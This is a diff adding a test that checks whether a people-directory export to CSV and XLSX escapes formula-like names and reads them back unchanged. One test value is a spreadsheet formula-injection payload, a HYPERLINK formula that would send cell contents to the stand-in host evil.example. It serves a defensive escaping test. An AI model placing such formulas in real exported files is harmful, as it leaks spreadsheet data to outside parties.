@@ -71,3 +71,20 @@ def test_organisations_export_round_trip(coordinator_client, people):
 
     assert sorted((o.name, o.kind, o.territory, o.city, o.ror_id, o.parent.name if o.parent else "")
                   for o in Organisation.objects.all()) == before
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_name_that_looks_like_a_formula_is_escaped_and_reads_back_as_typed(coordinator_client, fmt):
+    names = ('=HYPERLINK("http://evil.example/?x="&A1,"Xq2")', "-Dupont", "'@Quote")
+    PersonFactory(first_name=names[0], last_name=names[1], keywords=names[2], orcid="")
+    exported = coordinator_client.get(reverse("directory:people_export", args=[fmt]))
+    if fmt == "csv":
+        assert exported.content.decode("utf-8-sig").splitlines()[1].startswith(
+            '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Xq2"")",\'-Dupont,')
+    Person.objects.all().delete()
+
+    batch = upload_and_map(coordinator_client, f"passerelle-people.{fmt}", exported.content)
+    commit(coordinator_client, batch)
+
+    person = Person.objects.get()
+    assert (person.first_name, person.last_name, person.keywords) == names
